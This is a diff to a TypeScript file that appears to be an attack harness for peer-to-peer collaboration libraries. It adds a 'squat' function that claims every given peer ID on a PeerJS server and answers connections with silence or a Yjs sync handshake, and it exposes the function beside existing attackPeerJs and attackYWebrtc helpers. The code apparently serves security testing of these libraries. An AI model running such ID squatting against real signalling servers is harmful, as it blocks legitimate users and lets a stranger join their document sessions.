@@ -80,9 +80,35 @@ async function attackYWebrtc(signalUrl: string, topic: string, relayed: readonly
   return loot;
 }
 
+/**
+ * Registers every id in `ids` at the PeerServer and holds it: a squatter on every slot. Half answer a
+ * connection with silence, half with the sync protocol (as a stranger would). Resolves once all hold.
+ */
+async function squat(server: { host: string; port: number }, ids: readonly string[]): Promise<number> {
+  let held = 0;
+  await Promise.all(
+    ids.map(
+      (id, slot) =>
+        new Promise<void>((resolve) => {
+          const peer = new Peer(id, { host: server.host, port: server.port, path: '/', secure: false, key: 'peerjs', config: { iceServers: [] } });
+          peer.on('open', () => {
+            held++;
+            resolve();
+          });
+          peer.on('error', () => resolve());
+          peer.on('connection', (conn) => {
+            if (slot % 2 === 0) return;
+            conn.on('open', () => void conn.send(frame(0, (e) => syncProtocol.writeSyncStep1(e, new Y.Doc()), true)));
+          });
+        }),
+    ),
+  );
+  return held;
+}
+
 declare global {
   interface Window {
-    operator: { attackPeerJs: typeof attackPeerJs; attackYWebrtc: typeof attackYWebrtc };
+    operator: { attackPeerJs: typeof attackPeerJs; attackYWebrtc: typeof attackYWebrtc; squat: typeof squat };
   }
 }
-window.operator = { attackPeerJs, attackYWebrtc };
+window.operator = { attackPeerJs, attackYWebrtc, squat };
